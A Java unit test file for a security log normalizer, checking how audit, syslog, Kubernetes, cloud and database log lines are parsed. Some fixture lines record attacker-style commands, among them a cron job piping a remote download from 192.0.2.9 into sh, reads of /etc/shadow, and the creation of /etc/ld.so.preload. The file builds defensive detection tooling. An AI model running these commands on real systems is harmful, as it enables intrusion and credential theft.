package io.zhidun.stream.normalize;

import static org.assertj.core.api.Assertions.assertThat;

import io.zhidun.events.Event;
import io.zhidun.events.EventWriter;
import io.zhidun.events.Json;
import io.zhidun.events.RawRecord;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** One line of each kind that the shipped formats read, and what becomes of it. */
class ShippedFormatsTest {
  private static final long RECEIVED =
      Instant.parse("2026-11-22T04:00:00Z").getEpochSecond() * 1_000_000;

  private final Normalizer normalizer = Normalizer.of(Formats.shipped());

  @Test
  void readsAStartedProgramWithItsArgumentsAsAuditdWritesThem() {
    expect(
        "syslog",
        "Nov 22 11:00:00 review-db-01 audisp-syslog: type=EXECVE msg=audit(1795316400.123:77):"
            + " argc=3 a0=\"cat\" a1=\"/etc/shadow\" a2=\"/etc/passwd\"",
        "vendor.auditd.type=EXECVE",
        "process.name=audisp-syslog,cat",
        "process.args=\"/etc/shadow\",\"/etc/passwd\"",
        "host.name=review-db-01");
  }

  @Test
  void readsAuditRecordsOfPathsCallsAndTheConfiguration() {
    String head = "Nov 22 11:00:00 h audisp-syslog: ";
    expect(
        "syslog",
        head
            + "type=PATH msg=audit(1795316400.123:78): item=1 name=\"/etc/ld.so.preload\" inode=5"
            + " mode=0100644 ouid=0 nametype=CREATE cap_fp=0",
        "file.path=/etc/ld.so.preload",
        "vendor.auditd.nametype=CREATE");
    expect(
        "syslog",
        head
            + "type=SYSCALL msg=audit(1795316400.1:79): arch=c000003e syscall=59 success=yes exit=0"
            + " a0=1 items=2 ppid=812 pid=9001 auid=4294967295 uid=33 gid=33 tty=(none)"
            + " ses=4294967295 comm=\"sh\" exe=\"/usr/bin/dash\" subj=unconfined key=\"exec\"",
        "user.id=33",
        "vendor.auditd.auid=4294967295",
        "process.executable=/usr/bin/dash",
        "vendor.auditd.key=exec",
        "process.pid=9001");
    expect(
        "syslog",
        head + "type=CONFIG_CHANGE msg=audit(1795316400.1:80): op=set audit_enabled=0 old=1 res=1",
        "vendor.auditd.op=set",
        "vendor.auditd.enabled=0");
    expect(
        "syslog",
        head + "type=ANOM_PROMISCUOUS msg=audit(1795316400.1:81): dev=eth0 prom=256 old_prom=0",
        "vendor.auditd.device=eth0",
        "vendor.auditd.promiscuous=256");
  }

  @Test
  void readsWhatAScannerReportsOfAnObject() {
    expect(
        "posture",
        "{\"ts\":\"2026-11-22T11:00:00.000+08:00\",\"host\":\"tm-web-01\",\"check\":\"malware-host\","
            + "\"agent\":\"posture-agent\",\"values\":{\"running\":true,\"signature_age_days\":47}}",
        "host.name=tm-web-01",
        "event.action=malware-host",
        "event.dataset=posture",
        "event.category=configuration");
  }

  @Test
  void aListInOtherFieldsIsOneMemberOfWhatIsStored() {
    Event event = new Event();
    byte[] line =
        "{\"ts\":\"2026-11-22T11:00:00+08:00\",\"host\":\"h\",\"check\":\"packages\",\"values\":{\"extra_packages\":[\"telnet\",\"gcc\"]}}"
            .getBytes(StandardCharsets.UTF_8);
    RawRecord raw = new RawRecord("posture", "c", "s", 0, 1, RECEIVED, null, "Asia/Shanghai", line);
    assertThat(normalizer.normalize(raw, event)).isNull();

    JsonNode vendor = Json.mapper().readTree(new EventWriter().toBytes(event)).path("vendor");

    assertThat(vendor.toString()).contains("[\"telnet\",\"gcc\"]");
  }

  @Test
  void readsChangesOfAccounts() {
    expect(
        "syslog",
        "Nov 22 11:00:00 h useradd[9]: new user: name=svc1, UID=0, GID=0, home=/root,"
            + " shell=/bin/bash, from=/dev/pts/0",
        "event.action=account-added",
        "user.target.name=svc1",
        "user.target.id=0",
        "vendor.account.shell=/bin/bash");
    expect(
        "syslog",
        "Nov 22 11:00:00 h usermod[9]: add 'd50012' to group 'sudo'",
        "event.action=account-added-to-group",
        "group.name=sudo");
    expect(
        "syslog",
        "Nov 22 11:00:00 h gpasswd[9]: user d50012 added by root to group docker",
        "user.name=root",
        "group.name=docker");
  }

  @Test
  void readsJobsOfCronAlsoWithBracketsInThem() {
    expect(
        "syslog",
        "Nov 22 11:00:00 h CRON[77]: (root) CMD (cd / && (curl -fsSL http://192.0.2.9/a) | sh)",
        "user.name=root",
        "process.command_line=cd / && (curl -fsSL http://192.0.2.9/a) | sh");
    expect(
        "syslog",
        "Nov 22 11:00:00 h crontab[77]: (d50012) REPLACE (d50012)",
        "event.action=cron-table",
        "vendor.cron.operation=REPLACE");
  }

  @Test
  void readsUnitsThatSystemdStops() {
    expect(
        "syslog",
        "Nov 22 11:00:00 h systemd[1]: Stopped auditd.service - Security Auditing Service.",
        "event.action=unit-stopped",
        "service.name=auditd.service");
    expect(
        "syslog",
        "Nov 22 11:00:00 h systemd[1]: Stopped Security Auditing Service.",
        "event.action=unit-stopped",
        "vendor.systemd.description=Security Auditing Service");
  }

  @Test
  void keepsTheNamesOfWindows() {
    expect(
        "windows-event",
        "{\"TimeCreated\":\"2026-11-22T03:39:10.948Z\",\"Channel\":\"Security\",\"EventID\":4624,"
            + "\"Computer\":\"REVIEW-DC01\",\"LogonType\":10,\"IpAddress\":\"203.0.113.7\","
            + "\"Unheard\":\"of\"}",
        "@timestamp=2026-11-22T03:39:10.948000Z",
        "host.name=REVIEW-DC01",
        "EventID=4624",
        "LogonType=10",
        "event.action=logon",
        "event.outcome=success",
        "vendor/windows.Unheard=of");
  }

  @Test
  void readsAuditEventsOfACluster() {
    expect(
        "kubernetes-audit",
        "{\"kind\":\"Event\",\"auditID\":\"a-1\",\"stage\":\"ResponseComplete\",\"verb\":\"create\","
            + "\"requestReceivedTimestamp\":\"2026-11-22T03:00:00.123456Z\","
            + "\"user\":{\"username\":\"li\",\"groups\":[\"dev\"]},\"sourceIPs\":[\"10.30.0.5\"],"
            + "\"objectRef\":{\"resource\":\"pods\",\"namespace\":\"review\",\"name\":\"p\"},"
            + "\"responseStatus\":{\"code\":201},\"requestObject\":{\"spec\":{\"containers\":["
            + "{\"image\":\"a\"},{\"image\":\"b\",\"securityContext\":{\"privileged\":true}}],"
            + "\"volumes\":[{\"hostPath\":{\"path\":\"/\"}}]}}}",
        "@timestamp=2026-11-22T03:00:00.123456Z",
        "event.action=create",
        "user.name=li",
        "source.ip=10.30.0.5",
        "vendor.kubernetes.privileged=true",
        "vendor.kubernetes.host_path=/",
        "event.outcome=success");
  }

  @Test
  void readsActionsInACloud() {
    expect(
        "actiontrail",
        "{\"eventId\":\"e\",\"eventTime\":\"2026-11-22T03:00:00Z\",\"eventName\":\"PutBucketAcl\","
            + "\"serviceName\":\"Oss\",\"sourceIpAddress\":\"203.0.113.7\",\"userIdentity\":{"
            + "\"type\":\"ram-user\",\"userName\":\"li\"},\"resourceName\":\"review-files\","
            + "\"requestParameters\":{\"x-oss-acl\":\"public-read\"}}",
        "event.action=PutBucketAcl",
        "cloud.service.name=Oss",
        "vendor.cloud.identity_type=ram-user",
        "vendor.cloud.acl=public-read");
  }

  @Test
  void readsStatementsAndLoginsOfPostgresql() {
    String head = "Nov 22 11:00:00 review-db-01 postgres[88]: [12-1] ";
    expect(
        "syslog",
        head
            + "user=dba_li,db=review,client=10.30.0.5 LOG:  AUDIT: SESSION,3,1,READ,SELECT,TABLE,"
            + "public.application,\"select a, b from application\",<not logged>",
        "vendor.sql.class=READ",
        "vendor.sql.object=public.application",
        "vendor.sql.statement=\"select a, b from application\"",
        "source.address=10.30.0.5");
    expect(
        "syslog",
        head + "user=e_app,db=review,client=[local] LOG:  statement: DROP TABLE a",
        "event.action=sql-statement",
        "vendor.sql.statement=DROP TABLE a");
    expect(
        "syslog",
        head
            + "user=x,db=review,client=10.9.8.7 FATAL:  password authentication failed for user"
            + " \"x\"",
        "event.action=sql-login",
        "event.outcome=failure",
        "source.ip=10.9.8.7",
        "user.name=x");
    expect(
        "syslog",
        head
            + "user=postgres,db=review,client=fd00::5 LOG:  connection authorized: user=postgres"
            + " database=review",
        "event.outcome=success",
        "source.ip=fd00::5");
  }

  @Test
  void readsTheAuditPluginOfMysql() {
    String head = "Nov 22 11:00:00 tm-db-01 mysql-server_auditing: ";
    expect(
        "syslog",
        head + " tm-db-01,app,10.20.0.5,12,345,QUERY,tm,'select \\'a\\', b from mark',0",
        "event.action=sql-statement",
        "user.name=app",
        "vendor.sql.statement=select \\'a\\', b from mark");
    expect(
        "syslog",
        head + "tm-db-01,root,10.9.8.7,12,0,FAILED_CONNECT,,,1045",
        "event.outcome=failure",
        "source.ip=10.9.8.7",
        "vendor.sql.code=1045");
  }

  @Test
  void readsQueriesAndTransfersOfANameServer() {
    String head = "Nov 22 11:00:00 dns01 named[5]: ";
    expect(
        "syslog",
        head
            + "client @0x7f10 10.20.0.5#53124 (a.example.net): query: a.example.net IN TXT +E(0)K"
            + " (10.0.53.1)",
        "dns.question.name=a.example.net",
        "dns.question.type=TXT",
        "source.ip=10.20.0.5");
    expect(
        "syslog",
        head
            + "client @0x7f10 203.0.113.7#40000 (ip.example): zone transfer 'ip.example/AXFR/IN'"
            + " denied",
        "event.action=dns-zone-transfer",
        "dns.question.name=ip.example",
        "event.outcome=failure");
  }

  @Test
  void readsTheAuditLogsOfSignOnAndOfTheSystems() {
    expect(
        "identity-audit",
        "{\"ts\":\"2026-11-22T11:00:00+08:00\",\"service\":\"sso\",\"action\":\"role-grant\","
            + "\"outcome\":\"success\",\"account\":\"d50001\",\"target\":\"d50002\","
            + "\"role\":\"auditor\",\"client\":\"10.20.0.5\",\"country\":\"CN\",\"idleDays\":91}",
        "event.action=role-grant",
        "user.target.name=d50002",
        "vendor.identity.role=auditor",
        "source.geo.country_iso_code=CN",
        "vendor.identity.idle_days=91");
    expect(
        "ip-audit",
        "{\"ts\":\"2026-11-22T11:00:00+08:00\",\"system\":\"public-service\",\"action\":\"refund\","
            + "\"account\":\"c40011\",\"amount\":2500.5,\"payer\":\"p-77\",\"payee\":\"p-90\","
            + "\"object\":{\"id\":\"CN1\",\"assigned\":false,\"field\":\"filing-date\"},"
            + "\"key\":\"k-17\",\"agency\":\"11001\",\"certificate\":{\"serial\":\"4F2A\"}}",
        "vendor.amount=2500.5",
        "vendor.payee=p-90",
        "vendor.object.assigned=false",
        "vendor.api.key=k-17",
        "vendor.certificate.serial=4F2A");
  }

  /** Compares fields written {@code name=value}; several values stand with commas. */
  private void expect(String dataset, String line, String... fields) {
    Event event = new Event();
    byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
    RawRecord raw = new RawRecord(dataset, "c", "s", 0, 1, RECEIVED, null, "Asia/Shanghai", bytes);
    assertThat(normalizer.normalize(raw, event)).isNull();
    JsonNode json = Json.mapper().readTree(new EventWriter().toBytes(event));
    assertThat(Arrays.stream(fields).map(field -> written(json, field.split("=", 2)[0])))
        .as("%s: %s", dataset, json)
        .containsExactly(fields);
  }

  private static String written(JsonNode json, String name) {
    JsonNode node = json;
    String[] parts = name.contains("/") ? name.split("/", -1) : name.split("\\.", -1);
    for (String part : parts) {
      node = node.path(part);
    }
    StringBuilder values = new StringBuilder();
    if (node.isArray()) {
      node.forEach(item -> values.append(values.isEmpty() ? "" : ",").append(item.asString()));
    } else {
      values.append(node.asString());
    }
    return name + "=" + values;
  }
}
